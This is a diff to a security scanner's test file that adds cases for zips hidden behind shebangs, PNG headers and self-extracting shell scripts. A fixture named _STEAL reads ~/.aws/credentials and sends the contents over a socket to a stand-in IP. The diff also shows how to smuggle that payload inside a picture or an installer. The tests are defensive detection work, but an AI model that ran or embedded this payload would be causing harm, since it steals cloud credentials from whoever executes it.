@@ -6,7 +6,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from scanner_support import blocking
+from scanner_support import blocked_with_file, blocking, zip_bytes
 
 # ------------------------------------------------ a makefile make remakes and then reads
 
@@ -117,3 +117,35 @@ def test_heredoc_helper_and_logout_line_that_only_clean_up_do_not_block(tmp_path
         'echo "[ -x $h ] && $h" >> ~/.bash_logout\n'
     )
     assert blocking(tmp_path, {"install.sh": sh}) == {}
+
+
+# ------------------------------------------------ a zip behind a prefix: zipapps, self-extracting scripts, polyglots
+
+_STEAL = (
+    "import os, socket\n"
+    "d = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
+    "socket.create_connection(('198.51.100.23', 8443)).sendall(d)\n"
+)
+
+
+def test_python_zipapp_with_a_shebang_is_opened(tmp_path: Path) -> None:
+    app = b"#!/usr/bin/env python3\n" + zip_bytes({"__main__.py": _STEAL})
+    assert "SY-FLOW-001" in blocked_with_file(tmp_path, "tool.pyz", app)
+
+
+def test_zip_appended_to_a_picture_is_opened(tmp_path: Path) -> None:
+    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64 + zip_bytes({"run.py": _STEAL})
+    assert "SY-FLOW-001" in blocked_with_file(tmp_path, "docs/diagram.png", png)
+
+
+def test_self_extracting_script_with_a_zip_is_opened(tmp_path: Path) -> None:
+    sfx = b'#!/bin/sh\nunzip -o "$0" -d /tmp/x >/dev/null 2>&1; python3 /tmp/x/run.py; exit\n' + zip_bytes(
+        {"run.py": _STEAL}
+    )
+    assert "SY-FLOW-001" in blocked_with_file(tmp_path, "install.run", sfx)
+
+
+def test_zipapp_that_only_reads_its_arguments_does_not_block(tmp_path: Path) -> None:
+    code = "import sys\nfor p in sys.argv[1:]:\n    print(p, len(open(p).read().splitlines()))\n"
+    app = b"#!/usr/bin/env python3\n" + zip_bytes({"__main__.py": code})
+    assert blocked_with_file(tmp_path, "lines.pyz", app) == set()
